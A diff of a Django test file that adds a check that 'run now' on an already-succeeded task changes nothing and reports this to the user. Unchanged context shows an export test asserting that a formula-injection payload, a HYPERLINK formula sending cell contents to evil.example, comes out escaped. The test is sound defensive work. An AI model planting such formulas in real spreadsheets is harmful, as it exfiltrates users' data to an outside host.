@@ -11,7 +11,7 @@ from django.urls import reverse
 from ledger.actions import action_request
 from ledger.counts import HISTORY_EXACT_UP_TO
 from ledger.middleware import current_request_id
-from ledger.models import Action, ActionStatus, Agent, AuditEvent
+from ledger.models import Action, ActionStatus, Agent, AuditEvent, Task
 from ledger.replay import replay_agent
 from tests.factories import make_agent, new_action, person
 
@@ -86,3 +86,13 @@ def test_the_audit_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(ad
     assert noted["reason"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
     assert noted["request_id"] == "'@SUM(1+1)"
     assert noted["actor"] == "system:tests"
+
+
+def test_run_now_on_a_task_no_longer_queued_says_nothing_was_done(admin, agent):
+    """A page opened while the task waited out its backoff, posted after a worker took it: the
+    task is left alone, and the person is told so, not that it will run."""
+    task = Task.objects.create(task_id="t-ran", fingerprint="x", workflow="refund", input={}, agent=agent,
+                               max_attempts=3, state="succeeded")
+    page = admin.post(f"/tasks/{task.pk}/run-now", follow=True).content.decode()
+    assert "t-ran will run now" not in page and "Not done: t-ran is succeeded now" in page
+    assert not AuditEvent.objects.filter(verb="run_now").exists()
